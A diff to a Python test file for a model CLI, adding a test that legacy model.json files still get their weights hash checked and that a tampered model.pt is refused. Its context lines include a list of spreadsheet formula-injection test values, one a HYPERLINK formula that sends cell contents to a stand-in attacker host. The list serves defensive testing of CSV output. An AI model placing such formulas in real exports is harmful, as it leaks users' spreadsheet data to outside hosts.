@@ -192,6 +192,21 @@ def test_model_json_carries_a_self_hash_and_format_version_and_an_edit_is_refuse
     assert "model.json was changed after it was saved" in line
 
 
+def test_a_model_json_from_before_format_version_still_checks_its_weights_hash(world, tmp_path):
+    ft = _copy(world, "ft", tmp_path)
+    photo = world["t"] / "photo.png"
+    meta = json.loads((ft / "model.json").read_text())
+    for key in ("format_version", "meta_sha256", "model_file"):  # the layout written before the self-hash
+        del meta[key]
+    (ft / "model.json").write_text(json.dumps(meta))
+    legacy, clean = run_cli("predict", "--model", ft, photo), run_cli("predict", "--model", world["t"] / "ft", photo)
+    assert legacy.returncode == 0 and clean.returncode == 0 and legacy.stdout == clean.stdout, legacy.stderr
+    with open(ft / "model.pt", "ab") as fh:
+        fh.write(b"x")
+    line = _one_line_refusal(run_cli("predict", "--model", ft, photo))
+    assert "model.pt does not match the sha256" in line
+
+
 # --- predictions: CSV and the printed lines ------------------------------------------------------------
 
 NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1:A2)", "\tcmd", "\rcmd",
